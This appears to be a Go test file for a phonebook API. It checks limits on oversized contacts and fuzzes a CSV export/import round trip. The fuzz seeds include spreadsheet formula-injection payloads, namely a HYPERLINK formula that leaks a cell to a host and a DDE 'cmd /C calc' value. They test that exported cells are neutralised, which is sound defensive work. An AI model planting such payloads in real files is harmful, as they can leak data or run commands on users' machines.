package api

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"reflect"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/pbxagent/pbxagent/agent/httpx"
	"github.com/pbxagent/pbxagent/phonebook"
	"github.com/pbxagent/pbxagent/phonebook/number"
)

// countingNumbering counts the numbers the store normalises.
type countingNumbering struct {
	phonebook.Numbering
	calls atomic.Int64
}

func (c *countingNumbering) Index(raw string) (string, []string) {
	c.calls.Add(1)
	return c.Numbering.Index(raw)
}

// apiFixture is a store behind the contacts and CSV routes.
type apiFixture struct {
	store  *phonebook.Store
	num    *countingNumbering
	router *httpx.Mux
}

func newAPIFixture(t testing.TB) *apiFixture {
	t.Helper()
	norm, err := number.New(number.Config{})
	if err != nil {
		t.Fatal(err)
	}
	num := &countingNumbering{Numbering: norm.Numbering()}
	st, err := phonebook.Open(context.Background(), phonebook.Options{InMemory: true, Numbering: num, MemoryBudget: 32 << 20})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = st.Close() })
	reg := prometheus.NewRegistry()
	r := httpx.New(httpx.WithAuthenticators(httpx.NewAdminToken("tok")), httpx.WithMaxBody(256<<20), httpx.WithRegisterer(reg))
	r.Mount(NewComponent(NewContacts(st, reg), NewImports(st, t.TempDir())))
	return &apiFixture{store: st, num: num, router: r}
}

func (f *apiFixture) do(method, path, ctype string, body []byte) *httptest.ResponseRecorder {
	req := httptest.NewRequest(method, path, bytes.NewReader(body))
	req.Header.Set("Authorization", "Bearer tok")
	if ctype != "" {
		req.Header.Set("Content-Type", ctype)
	}
	rec := httptest.NewRecorder()
	f.router.ServeHTTP(rec, req)
	return rec
}

// contactJSON is a contact body with n numbers.
func contactJSON(n int) []byte {
	var b bytes.Buffer
	b.WriteString(`{"first_name":"Huge","numbers":[`)
	for i := range n {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `{"type":"work","value":"+38761%06d"}`, i)
	}
	b.WriteString(`]}`)
	return b.Bytes()
}

// TestHugeContactRefusedBeforeNormalising: an oversized contact, by JSON
// (create, replace, patch) or by CSV, is refused without one number being
// normalised.
func TestHugeContactRefusedBeforeNormalising(t *testing.T) {
	f := newAPIFixture(t)
	rec := f.do("POST", "/api/v1/contacts", "application/json", []byte(`{"first_name":"Small","numbers":[{"type":"work","value":"061 111 111"}]}`))
	if rec.Code != http.StatusCreated {
		t.Fatalf("small contact: %d %s", rec.Code, rec.Body)
	}
	var small phonebook.Contact
	_ = json.Unmarshal(rec.Body.Bytes(), &small)
	line := "Huge,,,,," + strings.TrimSuffix(strings.Repeat("work:+38761111111,", 50_000), ",") + "\n"
	for _, tc := range []struct {
		name         string
		method, path string
		ctype        string
		body         []byte
		code         int
		want         string
	}{
		// A body over MaxContactBodyBytes is refused before it is decoded
		// (200 000 numbers are 7 MB; padding keeps the case quick to build).
		{name: "JSON body over the contact cap", method: "POST", path: "/api/v1/contacts",
			body: append(bytes.Repeat([]byte(" "), MaxContactBodyBytes), contactJSON(1000)...),
			code: http.StatusRequestEntityTooLarge, want: "larger than"},
		{name: "JSON create of 5 000 numbers", method: "POST", path: "/api/v1/contacts", body: contactJSON(5_000),
			code: http.StatusBadRequest, want: "more than 64 numbers"},
		{name: "JSON replace of 5 000 numbers", method: "PUT", path: "/api/v1/contacts/" + small.ID, body: contactJSON(5_000),
			code: http.StatusBadRequest, want: "more than 64 numbers"},
		{name: "JSON patch of 5 000 numbers", method: "PATCH", path: "/api/v1/contacts/" + small.ID, body: contactJSON(5_000),
			code: http.StatusBadRequest, want: "more than 64 numbers"},
		{name: "CSV line of 50 000 numbers", method: "POST", path: "/api/v1/contacts/import?mode=merge", ctype: "text/csv",
			body: []byte("Ana,,,,,work:+38761222222\n" + line), code: http.StatusBadRequest, want: "50000 number cells"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ctype := tc.ctype
			if ctype == "" {
				ctype = "application/json"
			}
			f.num.calls.Store(0)
			rec := f.do(tc.method, tc.path, ctype, tc.body)
			if rec.Code != tc.code || !strings.Contains(rec.Body.String(), tc.want) {
				t.Fatalf("%d %.300s, want %d with %q", rec.Code, rec.Body, tc.code, tc.want)
			}
			if n := f.num.calls.Load(); n != 0 {
				t.Fatalf("normalised %d numbers of a refused contact", n)
			}
		})
	}
}

// cpbNumberRE is the number a Central Phone Book cell holds (csvbook's
// rule): digits, '+', separators and dial characters, a digit among them.
var cpbNumberRE = regexp.MustCompile(`^[0-9+ \-.()/*#]*[0-9][0-9+ \-.()/*#]*$`)

// cpbFields is what the Central Phone Book format holds of a contact.
type cpbFields struct {
	First, Middle, Last, Company, Email string
	Numbers                             []string
}

func cpbOf(c *phonebook.Contact) cpbFields {
	v := cpbFields{First: c.FirstName, Middle: c.MiddleName, Last: c.LastName, Company: c.Company}
	if strings.TrimSpace(v.First+v.Middle+v.Last+v.Company) == "" {
		v.First = strings.TrimSpace(c.DisplayName)
	}
	for _, e := range c.Emails {
		if strings.EqualFold(e.Label, "work") {
			v.Email = e.Address
			break
		}
	}
	if v.Email == "" && len(c.Emails) > 0 {
		v.Email = c.Emails[0].Address
	}
	for _, n := range c.Numbers {
		switch n.Type {
		case phonebook.NumberWork, phonebook.NumberMobile, phonebook.NumberHome, phonebook.NumberFax:
			if len(n.Value) <= 64 && cpbNumberRE.MatchString(n.Value) {
				v.Numbers = append(v.Numbers, string(n.Type)+":"+n.Value)
			}
		}
	}
	return v
}

// FuzzExportImportRoundTrip: any contact the JSON API accepts is exported
// by GET /api/v1/contacts/export and imported back by the CSV import equal
// on every field the format holds; text the API refuses is refused on
// both paths alike.
func FuzzExportImportRoundTrip(f *testing.F) {
	for _, s := range [][6]string{
		{"Ana", "", "Anić", "Example d.o.o.", "ana@example.com", "+387 61 111 111"},
		{`=HYPERLINK("http://x/?"&A1)`, "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "=1@x.com", "+38761111111"},
		{"'=x", "''-", "'t Hooft", "'", "'@a.b", "061/111-111"},
		{"A\x00na", "", "", "", "", "1"},
		{"Ana\tMaria", "", "", "", "", ""},
		{"Ana\nMaria", "", "", "Co\r", "", ""},
		{"\u0085", "", "", "", "", ""},
		{" Ana ", "", "", "", "", ""},
		{"", "", "", "", "x@y.z", ""},
		{"", "", "", "", "", "+38761111111"},
		{"Ana, \"the\" boss", "", "", "A,B", "", "*99#"},
		{"\ufeffAna", "", "", "", "", ""},
	} {
		f.Add(s[0], s[1], s[2], s[3], s[4], s[5])
	}
	src := newAPIFixture(f)
	dst := newAPIFixture(f)
	f.Fuzz(func(t *testing.T, first, middle, last, company, email, num string) {
		in := map[string]any{"first_name": first, "middle_name": middle, "last_name": last, "company": company}
		if email != "" {
			in["emails"] = []map[string]string{{"label": "work", "address": email}}
		}
		if num != "" {
			in["numbers"] = []map[string]string{{"type": "mobile", "value": num}}
		}
		body, err := json.Marshal(in)
		if err != nil {
			t.Skip("not JSON")
		}
		rec := src.do("POST", "/api/v1/contacts", "application/json", body)
		if rec.Code != http.StatusCreated {
			if rec.Code != http.StatusBadRequest {
				t.Fatalf("create: %d %s", rec.Code, rec.Body)
			}
			return // refused: nothing to export
		}
		var created phonebook.Contact
		if err := json.Unmarshal(rec.Body.Bytes(), &created); err != nil {
			t.Fatal(err)
		}
		defer func() {
			if rec := src.do("DELETE", "/api/v1/contacts/"+created.ID, "", nil); rec.Code != http.StatusNoContent {
				t.Fatalf("delete: %d %s", rec.Code, rec.Body)
			}
		}()
		exp := src.do("GET", "/api/v1/contacts/export", "", nil)
		if exp.Code != http.StatusOK {
			t.Fatalf("export: %d %s", exp.Code, exp.Body)
		}
		file, _ := io.ReadAll(exp.Body)
		cr := csv.NewReader(bytes.NewReader(file))
		cr.FieldsPerRecord = -1
		rows, err := cr.ReadAll()
		if err != nil || len(rows) != 1 {
			t.Fatalf("export %q: %d rows, %v", file, len(rows), err)
		}
		for i, cell := range rows[0][:5] {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Fatalf("export %q: cell %d starts with a formula character", file, i+1)
			}
		}
		imp := dst.do("POST", "/api/v1/contacts/import?mode=replace&confirm=true", "text/csv", file)
		if imp.Code != http.StatusOK {
			t.Fatalf("contact %+v: export %q does not import: %d %s", created, file, imp.Code, imp.Body)
		}
		var res ImportResult
		_ = json.Unmarshal(imp.Body.Bytes(), &res)
		if res.Format != "central-phone-book" {
			t.Skipf("the row %q reads as a %s header", file, res.Format) // a name spelling a known header
		}
		var got []*phonebook.Contact
		err = dst.store.Iterate(context.Background(), phonebook.Query{Source: phonebook.SourceCSV}, func(c *phonebook.Contact) error {
			got = append(got, c)
			return nil
		})
		if err != nil || len(got) != 1 {
			t.Fatalf("export %q imports as %d contacts (%v)", file, len(got), err)
		}
		if a, w := cpbOf(got[0]), cpbOf(&created); !reflect.DeepEqual(a, w) {
			t.Fatalf("export %q:\nimported %+v\ncreated  %+v", file, a, w)
		}
	})
}
